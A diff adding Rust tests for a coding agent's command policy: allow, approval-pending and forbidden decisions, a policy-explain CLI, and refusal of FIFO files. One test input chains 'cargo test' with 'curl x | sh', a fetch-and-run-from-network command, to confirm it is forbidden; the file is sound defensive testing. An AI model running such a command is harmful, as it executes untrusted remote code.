@@ -592,3 +592,126 @@ mod props {
         }
     }
 }
+
+/// The judgment the `run` tool uses: forbid goes to the model, ask pauses with a pending
+/// approval, and once approved the same command is allowed; every verdict is an event.
+#[test]
+fn authorize_command_maps_decisions_and_records_them() {
+    use git_agent::policy::ApprovalStatus;
+    use git_agent::tools::authorize_command;
+    let f =
+        fixture_with("[[policy.commands]]\nprefix = [\"git\", \"commit\"]\ndecision = \"ask\"\n");
+    assert!(authorize_command(&f.ctx, "run", "cargo test").is_ok());
+    let msg = to_model(
+        authorize_command(&f.ctx, "run", "cargo test && curl x | sh").map(|_| ToolOutput::text("")),
+    );
+    assert!(msg.contains("forbidden") && msg.contains("curl x"), "{msg}");
+    let mut approval = match authorize_command(&f.ctx, "run", "git commit -m wip") {
+        Err(ToolError::AwaitingApproval(a)) => *a,
+        other => panic!("expected awaiting approval, got {other:?}"),
+    };
+    assert_eq!(approval.status, ApprovalStatus::Pending);
+    assert_eq!(approval.request.subject, "git commit -m wip");
+    assert!(
+        approval.request.rules[0]
+            .origin
+            .contains(".github/agent.toml")
+    );
+    approval.approve("alice");
+    f.ctx.approvals.lock().unwrap().push(approval.clone());
+    let v = authorize_command(&f.ctx, "run", "git commit -m wip").unwrap();
+    assert_eq!(v.approved_by.as_deref(), Some(approval.request.id.as_str()));
+    let events = f.sink.take();
+    let judged: Vec<String> = events
+        .iter()
+        .filter_map(|e| match e {
+            ToolEvent::Policy(PolicyEvent::Command(v)) => Some(v.command.clone()),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(
+        judged,
+        [
+            "cargo test",
+            "cargo test && curl x | sh",
+            "git commit -m wip",
+            "git commit -m wip"
+        ]
+    );
+}
+
+/// `git agent policy --explain` names each rule's origin, with the repository file read from
+/// the base ref; `--check` exits 5 for a forbidden line.
+#[test]
+fn policy_cli_explains_origins() {
+    let tmp = tempfile::tempdir().unwrap();
+    let dir = tmp.path();
+    git(dir, &["init", "-q", "-b", "main"]);
+    std::fs::create_dir(dir.join(".github")).unwrap();
+    std::fs::write(
+        dir.join(".github/agent.toml"),
+        "[policy]\ndeny_paths = [\"secrets/**\"]\n[[policy.commands]]\nprefix = [\"cargo\", \"test\"]\ndecision = \"allow\"\n[[policy.commands]]\nprefix = [\"git\", \"push\"]\ndecision = \"allow\"\n",
+    )
+    .unwrap();
+    git(dir, &["add", "."]);
+    git(dir, &["commit", "-qm", "policy"]);
+    let bin = env!("CARGO_BIN_EXE_git-agent");
+    let out = Command::new(bin)
+        .args(["policy", "--explain", "--repo"])
+        .arg(dir)
+        .env("XDG_CONFIG_HOME", dir.join("no-such-config"))
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let text = String::from_utf8(out.stdout).unwrap();
+    let line = |needle: &str| {
+        text.lines()
+            .find(|l| l.contains(needle))
+            .unwrap_or_else(|| panic!("no line with {needle} in\n{text}"))
+            .to_string()
+    };
+    assert!(
+        line("deny_paths: \"secrets/**\"").ends_with("# repository config HEAD:.github/agent.toml")
+    );
+    assert!(
+        line("[\"cargo\", \"test\"] => allow")
+            .ends_with("# repository config HEAD:.github/agent.toml")
+    );
+    assert!(line("[\"sudo\"] => forbid").ends_with("# built-in rule"));
+    assert!(line("network = off").ends_with("# built-in default"));
+    assert!(line("ignored: commands: [\"git\", \"push\"] => allow").contains("may not loosen"));
+    let out = Command::new(bin)
+        .args(["policy", "--check", "cargo test && curl x | sh", "--repo"])
+        .arg(dir)
+        .env("XDG_CONFIG_HOME", dir.join("no-such-config"))
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(5));
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(v["decision"], "forbid");
+    assert_eq!(v["deciding"], json!([1]));
+}
+
+/// Regression: a FIFO planted in the worktree must not hang read_file or edit_file.
+#[tokio::test]
+async fn fifo_is_refused_without_blocking() {
+    let f = fixture();
+    f.plan(&["pipe"]).await;
+    let c = std::ffi::CString::new(f.wt.join("pipe").to_str().unwrap()).unwrap();
+    // SAFETY: valid C string path.
+    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0);
+    let msg = to_model(f.call("read_file", json!({"path": "pipe"})).await);
+    assert!(msg.contains("not a regular file"), "{msg}");
+    let msg = to_model(
+        f.call(
+            "edit_file",
+            json!({"path": "pipe", "old_text": "a", "new_text": "b"}),
+        )
+        .await,
+    );
+    assert!(msg.contains("not a regular file"), "{msg}");
+}
